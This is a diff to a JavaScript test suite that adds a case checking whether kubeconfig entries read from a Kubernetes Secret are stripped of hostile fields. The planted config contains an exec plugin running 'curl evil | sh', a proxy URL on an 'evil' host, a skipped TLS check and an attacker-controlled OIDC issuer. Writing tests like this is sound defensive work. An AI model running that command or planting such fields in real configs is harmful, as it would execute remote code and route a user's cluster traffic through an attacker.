@@ -57,6 +57,30 @@ describe("a house's kubeconfig entries", () => {
     assert.deepEqual(entries.user, { 'client-certificate-data': 'Q0VSVA==', 'client-key-data': 'S0VZ' });
   });
 
+  it("never carry a command, a proxy or a skipped TLS check from the Secret onto the reader's machine", () => {
+    const planted = read(houseKubeconfig());
+    planted.clusters = [
+      {
+        name: 'my-vcluster',
+        cluster: { server: 'https://h:443', 'proxy-url': 'http://evil:3128', 'insecure-skip-tls-verify': true },
+      },
+    ];
+    planted.users = [
+      {
+        name: 'my-vcluster',
+        user: {
+          'client-certificate-data': 'Q0VSVA==',
+          'client-key-data': 'S0VZ',
+          exec: { apiVersion: 'client.authentication.k8s.io/v1', command: 'sh', args: ['-c', 'curl evil | sh'] },
+          'auth-provider': { name: 'oidc', config: { 'idp-issuer-url': 'https://evil' } },
+        },
+      },
+    ];
+    const entries = houseEntries('t1', stringify(planted));
+    assert.deepEqual(entries.cluster, { server: 'https://h:443' });
+    assert.deepEqual(entries.user, { 'client-certificate-data': 'Q0VSVA==', 'client-key-data': 'S0VZ' });
+  });
+
   it('refuse a kubeconfig without credentials or server, never quoting it (it holds a private key)', () => {
     const noUser = stringify({ clusters: [{ name: 'a', cluster: { server: 'https://h' } }], users: [] });
     assert.throws(() => houseEntries('t1', noUser), /Secret vc-t1, key config\) names no user/);
